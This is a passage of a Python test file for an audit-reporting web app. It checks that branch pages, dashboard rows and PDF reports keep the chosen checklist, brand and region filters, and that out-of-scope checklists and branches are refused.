    assert {re.sub(r"\d+", "N", link.split("?")[0]) for link in links} == {
        "/reports/branches/N/visits.pdf", "/reports/regions/N.pdf", "/reports/regions/N/reports.zip"}
    assert all(f"checklist={bank.id}" in link for link in links), links
    assert re.findall(reports, every) and not any("checklist=" in link for link in re.findall(reports, every))
    whole = html.unescape(client.get(f"/dashboard/ranking?period=182&checklist={bank.id}").get_data(as_text=True))
    assert all(f"checklist={bank.id}" in link for link in re.findall(reports, whole))
    # Followed: the report names the checklist; a region without its visits has a report that says so.
    branch_pdf = next(link for link in links if "/branches/" in link)
    assert bank_title in " ".join("".join(p.extract_text() for p in PdfReader(io.BytesIO(
        client.get(branch_pdf).data)).pages).split())
    assert client.get(f"/reports/regions/{without_bank}.pdf?period=182&checklist={bank.id}").status_code == 200
    assert "cover every checklist" not in chosen


def _row_of(dashboard, branch):
    """(the branch page's link, visits, average score) of a branch's row in a dashboard's ranking."""
    row = re.search(r'<tr>\s*<th scope="row" class="ranked">(?:(?!</tr>).)*?<strong>' + branch.code
                    + r'</strong>.*?</tr>', dashboard, re.S).group(0)
    link = html.unescape(re.search(r'href="(/dashboard/branches/[^"]+)"', row).group(1))
    visits, score = re.findall(r'<td data-label="[^"]*" class="num">([^<]*)<', row)[:2]  # in any language
    return link, int(visits), score


def _options(page, name="checklist"):
    """[(value, label)] of a page's select."""
    select = re.search(rf'<select[^>]*name="{name}"[^>]*>(.*?)</select>', page, re.S).group(1)
    return [(value, html.unescape(label)) for value, label in re.findall(r'value="([^"]*)"[^>]*>([^<]*)<', select)]


def test_a_branchs_page_opened_from_a_row_of_a_chosen_checklist_gives_that_checklists_figures_as_its_report_does(
        app, demo):
    """A branch audited with the shop's checklist and by phone: opened from a dashboard filtered to the
    phone enquiry, its page and its PDF button gave every checklist mixed. The row's link carries the
    checklist; the page shows it chosen (among the dashboard's choices, to change there), lists and
    averages its visits alone, as the row did, and its PDF gives the same figures."""
    from audit.models import Checklist

    client = _manager(app)  # Hungary: the shop's checklist, and enquiries to some of its branches
    client.post("/language", data={"language": "en", "csrf_token": csrf_from(client.get("/dashboard/")), "next": "/"})
    with app.app_context(), database.connection_context():
        enquiry = Checklist.get(Checklist.slug == "phone-and-online-enquiry").id
        retail = Checklist.get(Checklist.slug == "retail-store-visit").id
        start = periods.parse("182", utcnow()).start
        mixed = next(b for b in Branch.select().join(Region).where(Region.name == "Hungary").order_by(Branch.code)
                     if len(stats.checklists_used([b.id], start, utcnow())) == 2)
        of_enquiry = {str(v.uuid) for v in stats.approved_visits(
            [mixed.id], start, utcnow(), stats.checklist_version_ids(enquiry))}
    assert of_enquiry, "the demo's enquiries"
    dashboard = client.get(f"/dashboard/?period=182&checklist={enquiry}").get_data(as_text=True)
    link, row_visits, row_score = _row_of(dashboard, mixed)
    assert link == f"/dashboard/branches/{mixed.id}?period=182&brand=0&checklist={enquiry}"

    page = client.get(link).get_data(as_text=True)
    assert _selected(page)["checklist"] == str(enquiry) and _selected(page)["period"] == "182"
    assert _options(page) == _options(dashboard)  # the dashboard's choices, to change here
    listed = re.findall(r'href="/reports/visits/([0-9a-f-]+)\.pdf"', page)
    assert set(listed) == of_enquiry and len(listed) == row_visits
    text = " ".join(html.unescape(re.sub(r"<[^>]+>", " ", page)).split())
    assert f"Average score: {row_score}" in text
    place = re.search(r"Place \d+ of \d+ branch(?:es)? in Hungary · Region average \S+ · Brand average \S+", text).group(0)
    every = " ".join(html.unescape(re.sub(r"<[^>]+>", " ", client.get(
        f"/dashboard/branches/{mixed.id}?period=182").get_data(as_text=True))).split())
    assert f"Average score: {row_score}" not in every  # the shop's visits with them: another figure

    # Its PDF button: the same checklist, and the same figures on the report's cover.
    pdf_link = html.unescape(re.search(r'href="(/reports/branches/\d+/visits\.pdf[^"]*)"', page).group(1))
    assert pdf_link == f"/reports/branches/{mixed.id}/visits.pdf?period=182&checklist={enquiry}"
    cover = " ".join(PdfReader(io.BytesIO(client.get(pdf_link + "&lang=en").data)).pages[0].extract_text().split())
    assert "Phone and online enquiry" in cover and row_score in cover, cover
    assert f"{row_visits} approved visits" in cover
    assert place.replace(" · Region", " Region") in cover, (place, cover)

    # Changed on the page: the shop's visits alone, and its PDF of them.
    shop = client.get(f"/dashboard/branches/{mixed.id}?period=182&checklist={retail}").get_data(as_text=True)
    assert _selected(shop)["checklist"] == str(retail)
    assert not set(re.findall(r'href="/reports/visits/([0-9a-f-]+)\.pdf"', shop)) & of_enquiry
    assert f"/reports/branches/{mixed.id}/visits.pdf?period=182&amp;checklist={retail}" in shop


def test_a_branchs_page_asked_for_a_checklist_not_the_managers_says_so_and_shows_every_checklist(app, demo):
    """An edited or old link: a checklist that is none of the manager's branches' (another client's,
    or no checklist at all) is refused by the branch report (404); the page, which has a place to say
    it, shows every checklist, says why, and its PDF button asks for no checklist."""
    from audit.models import Checklist

    client = _manager(app)  # Aurora's manager: their branches were never audited with the bank's checklist
    client.post("/language", data={"language": "en", "csrf_token": csrf_from(client.get("/dashboard/")), "next": "/"})
    with app.app_context(), database.connection_context():
        bank = Checklist.get(Checklist.slug == "bank-branch-visit").id
        branch = Branch.get(Branch.code == "BUD-02")
        foreign = Branch.get(Branch.code == "TLN-02")
    every = client.get(f"/dashboard/branches/{branch.id}?period=182").get_data(as_text=True)
    for wrong in (str(bank), "999999", "abc", "-1"):
        page = client.get(f"/dashboard/branches/{branch.id}?period=182&checklist={wrong}")
        assert page.status_code == 200
        text = html.unescape(page.get_data(as_text=True))
        assert "The checklist asked for is not one your branches were audited with" in text
        assert _selected(text)["checklist"] == "0" and "Bank branch" not in text
        assert f'href="/reports/branches/{branch.id}/visits.pdf?period=182"' in text
        assert _without_tokens(text.replace(text[text.index('<p class="flash flash-info"'):text.index("</p>", text.index(
            '<p class="flash flash-info"')) + 4], "")) == _without_tokens(html.unescape(every))
        assert client.get(f"/reports/branches/{branch.id}/visits.pdf?period=182&checklist={wrong}").status_code == 404
    # Another region's branch stays none of theirs, whatever the checklist.
    assert client.get(f"/dashboard/branches/{foreign.id}?period=182&checklist={bank}").status_code == 404


def test_a_branchs_page_leads_back_to_the_dashboard_with_its_client_and_region_still_chosen(app, demo):
    """A manager of a bank's and a shop chain's regions chose the bank and a region, opened a branch,
    and its Dashboard link led back to the first client's branches with every region: the brand and
    region chosen travel with the branch's page (its link, its Show form, its pages of visits)."""
    client = _manager(app, "manager.ee@example.com")
    client.post("/language", data={"language": "en", "csrf_token": csrf_from(client.get("/dashboard/")), "next": "/"})
    with app.app_context(), database.connection_context():
        bank = Brand.get(Brand.name == "Baltia Bank")
        region = Region.get((Region.brand == bank) & (Region.name == "Estonia"))
        branch = Branch.select().where(Branch.region == region).order_by(Branch.code).first()
    chosen = f"period=182&brand={bank.id}&region={region.id}"
    dashboard = client.get(f"/dashboard/?{chosen}").get_data(as_text=True)
    link, _visits, _score = _row_of(dashboard, branch)
    assert link == f"/dashboard/branches/{branch.id}?{chosen}"
    page = client.get(link).get_data(as_text=True)
    back = html.unescape(re.search(r'<a class="back" href="([^"]+)"', page).group(1))
    assert back == f"/dashboard/?{chosen}"
    back_to = client.get(back).get_data(as_text=True)
    assert _selected(back_to)["brand"] == str(bank.id) and _selected(back_to)["region"] == str(region.id)
    # The page's own filter keeps them when the period changes there (a GET form: its hidden fields).
    form = re.search(r'<form method="get" class="card filters">(.*?)</form>', page, re.S).group(1)
    assert f'<input type="hidden" name="brand" value="{bank.id}">' in form
    assert f'<input type="hidden" name="region" value="{region.id}">' in form
    # Something else than a number is not carried (the dashboard checks the numbers against the scope).
    odd = client.get(f"/dashboard/branches/{branch.id}?period=182&brand=x%22y&region=-1").get_data(as_text=True)
    assert html.unescape(re.search(r'<a class="back" href="([^"]+)"', odd).group(1)) == "/dashboard/?period=182"
    assert 'name="brand"' not in re.search(r'<form method="get" class="card filters">(.*?)</form>', odd, re.S).group(1)


def test_a_row_of_a_checklist_the_branchs_client_never_used_leads_to_a_page_that_says_the_same(app, demo):
    """A manager of a bank's and a shop chain's regions, every client shown, the bank's checklist
    chosen: a shop's row says 0 visits. Its page keeps the checklist (the dashboard's choices for the
    shop's client would not have it, and All gave the shop's figures), as its PDF does."""
    from audit.models import Checklist

    client = _manager(app, "manager.ee@example.com")
    with app.app_context(), database.connection_context():
        bank = Checklist.get(Checklist.slug == "bank-branch-visit").id
        shop = Branch.get(Branch.code == "CLJ-01")
    dashboard = client.get(f"/dashboard/?period=182&brand=0&checklist={bank}").get_data(as_text=True)
    link, visits, _score = _row_of(dashboard, shop)
    assert visits == 0 and link.endswith(f"checklist={bank}")
    page = client.get(link).get_data(as_text=True)
    assert _selected(page)["checklist"] == str(bank)
    assert "/reports/visits/" not in page and "flash-info" not in page
    assert client.get(f"/reports/branches/{shop.id}/visits.pdf?period=182&checklist={bank}").status_code == 200
    # The critical failures listed under that filter lead to pages of that checklist too.
    panel = dashboard[dashboard.index('id="critical"'):]
    critical = re.findall(r'href="(/dashboard/branches/[^"]+)"', panel[:panel.index("</section>")])
    assert critical and all(f"checklist={bank}" in href for href in critical)
